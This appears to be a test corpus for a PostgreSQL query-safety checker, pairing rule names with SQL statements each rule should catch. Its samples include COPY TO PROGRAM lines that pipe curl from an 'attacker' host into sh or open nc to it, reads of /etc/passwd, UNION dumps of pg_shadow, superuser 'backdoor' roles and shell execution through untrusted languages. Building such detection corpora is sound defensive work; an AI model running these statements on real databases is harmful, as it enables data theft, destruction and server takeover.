-- rule-id<TAB>statement
no-unfiltered-writes	UPDATE users SET password_hash = 'x'
no-unfiltered-writes	DELETE FROM orders
no-unfiltered-writes	delete from public.orders returning *
no-unfiltered-writes	WITH gone AS (DELETE FROM audit_log RETURNING id) SELECT count(*) FROM gone
no-unfiltered-writes	EXPLAIN ANALYZE UPDATE accounts SET balance = 0
no-unfiltered-writes	PREPARE wipe AS DELETE FROM users
no-unfiltered-writes	SELECT 1; DELETE FROM users
no-copy-program	COPY t FROM PROGRAM 'curl http://attacker/x | sh'
no-copy-program	COPY (SELECT 1) TO PROGRAM 'nc attacker 4444'
no-copy-program	copy t to program 'id'
no-copy-program	do $$ begin execute 'copy (select 1) to program ''id'''; end $$
no-copy-program	CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE format('COPY t FROM PROGRAM %L', 'id'); END $f$
no-copy-server-file	COPY users TO '/tmp/users.csv'
no-copy-server-file	COPY t FROM '/etc/passwd'
no-copy-server-file	COPY (SELECT * FROM users) TO '/var/lib/postgresql/x' WITH (FORMAT csv)
no-server-file-functions	SELECT pg_read_file('/etc/passwd')
no-server-file-functions	SELECT pg_catalog.pg_read_file('postgresql.conf', 0, 100)
no-server-file-functions	SELECT PG_READ_BINARY_FILE('global/pg_control')
no-server-file-functions	SELECT * FROM pg_ls_dir('.')
no-server-file-functions	SELECT * FROM pg_stat_file('pg_hba.conf')
no-server-file-functions	SELECT * FROM pg_ls_logdir()
no-server-file-functions	SELECT * FROM pg_ls_waldir()
no-server-file-functions	SELECT * FROM pg_ls_tmpdir()
no-server-file-functions	SELECT * FROM pg_ls_archive_statusdir()
no-server-file-functions	SELECT pg_file_write('x', 'y', false)
no-server-file-functions	SELECT id FROM users WHERE id = (SELECT length(pg_read_file('/etc/hostname')))
no-server-file-functions	WITH x AS (SELECT pg_ls_dir('/')) SELECT * FROM x
no-server-file-functions	CREATE TABLE leak (a text DEFAULT pg_read_file('/etc/passwd'))
no-server-file-functions	DO $$ BEGIN RAISE NOTICE '%', pg_read_file('/etc/passwd'); END $$
no-server-file-functions	CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'select pg_read_file(''/etc/passwd'')'
no-server-file-functions	SELECT 1; SELECT pg_read_file('/etc/passwd')
no-server-large-object-files	SELECT lo_import('/etc/passwd')
no-server-large-object-files	SELECT lo_export(16409, '/tmp/shell.so')
no-server-large-object-files	SELECT pg_catalog.lo_import('/etc/passwd', 4242)
no-dblink	SELECT * FROM dblink('host=10.0.0.5 dbname=x', 'select 1') AS t(a int)
no-dblink	SELECT dblink_connect('c', 'host=evil')
no-dblink	SELECT public.dblink_exec('c', 'drop table x')
no-alter-system	ALTER SYSTEM SET archive_command = 'id'
no-alter-system	alter system reset all
no-unfiltered-writes	UPDATE users SET role = 'admin' WHERE 1=1
no-unfiltered-writes	DELETE FROM orders WHERE id = 5 OR 1=1
no-unfiltered-writes	DELETE FROM orders WHERE 'a' = 'a'
no-unfiltered-writes	UPDATE accounts SET balance = 0 WHERE TRUE
no-unfiltered-writes	do $$ begin delete from t; end $$
no-unfiltered-writes	DO $$ BEGIN IF true THEN UPDATE accounts SET balance = 0; END IF; END $$
no-tautology	SELECT * FROM users WHERE name = '' OR 1=1
no-tautology	SELECT * FROM users WHERE name = '' OR '1'='1'
no-tautology	SELECT * FROM users WHERE name = 'x' OR 'a'='a'
no-tautology	SELECT * FROM users WHERE id = 1 OR TRUE
no-tautology	SELECT * FROM users WHERE id = 1 OR id = id
no-tautology	SELECT * FROM users WHERE id = 1 OR 2 > 1
no-tautology	SELECT * FROM users WHERE id = 1 OR 1+1 = 2
no-tautology	SELECT * FROM users WHERE (id = 1 AND pw = 'x') OR NOT false
no-tautology	SELECT * FROM users WHERE user_id = 7 OR 1=1::int
no-tautology	SELECT * FROM orders o JOIN users u ON o.user_id = u.id OR 1=1
no-tautology	SELECT count(*) FROM users GROUP BY role HAVING count(*) > 1 OR 'x'='x'
no-tautology	SELECT * FROM items WHERE id IN (SELECT id FROM other WHERE a = 1 OR 3=3)
no-catalog-union	SELECT name, price FROM products WHERE id = 1 UNION SELECT usename, passwd FROM pg_shadow
no-catalog-union	SELECT name FROM products WHERE id = 1 UNION ALL SELECT rolpassword FROM pg_authid
no-catalog-union	SELECT title, body FROM posts WHERE id = 3 UNION SELECT table_name, column_name FROM information_schema.columns
no-catalog-union	SELECT id, name FROM products UNION SELECT 1, pg_catalog.current_user FROM pg_catalog.pg_user
no-catalog-union	SELECT a FROM t WHERE b = 1 UNION SELECT (SELECT passwd FROM pg_shadow LIMIT 1)
no-stacked-after-select	SELECT * FROM products WHERE id = 1; DROP TABLE users
no-stacked-after-select	SELECT name FROM products WHERE id = 1; INSERT INTO admins (name) VALUES ('mallory')
no-stacked-after-select	SELECT * FROM t WHERE id = 1; GRANT ALL ON users TO public
no-privileged-role-attributes	select 1; create role evil superuser login
no-stacked-after-select	select * from t where a = 1; create role evil login password 'x'
no-time-probe	SELECT * FROM users WHERE id = 1 AND pg_sleep(5) IS NOT NULL
no-time-probe	SELECT * FROM users WHERE id = 1 AND (SELECT 1 FROM pg_sleep(5)) = 1
no-time-probe	SELECT CASE WHEN (SELECT count(*) FROM users) > 0 THEN pg_sleep(5) END
no-time-probe	SELECT name, pg_sleep(10) FROM users
no-time-probe	SELECT * FROM orders WHERE id = 1 AND 1 = (SELECT 1 FROM pg_sleep_for('5 seconds'))
no-comment-tricks	SELECT/**/password_hash/**/FROM/**/users
no-comment-tricks	SELECT * FROM users WHERE name = 'admin'--' AND password = 'x'
no-comment-tricks	SELECT id FROM users WHERE id = 1/**/LIMIT/**/1
no-comment-tricks	SELECT 1 /*! UNION SELECT 2 */
no-untrusted-language	CREATE FUNCTION sys(cmd text) RETURNS text LANGUAGE plpython3u AS 'import os; return os.popen(cmd).read()'
no-untrusted-language	CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE c STRICT
no-untrusted-language	CREATE FUNCTION rf(text) RETURNS text LANGUAGE internal AS 'pg_read_file_v2'
no-untrusted-language	DO LANGUAGE plperlu $$ system('id') $$
no-untrusted-language	CREATE OR REPLACE PROCEDURE p() LANGUAGE plperlu AS $$ `id` $$
no-dangerous-extensions	CREATE EXTENSION file_fdw
no-dangerous-extensions	CREATE EXTENSION IF NOT EXISTS plpython3u
no-dangerous-extensions	create extension adminpack
no-privileged-roles	GRANT pg_execute_server_program TO app
no-privileged-roles	GRANT pg_read_server_files, pg_write_server_files TO app
no-privileged-role-attributes	ALTER ROLE app WITH SUPERUSER
no-privileged-role-attributes	ALTER USER app BYPASSRLS
no-privileged-role-attributes	CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'x'
no-privileged-role-attributes	CREATE USER r REPLICATION
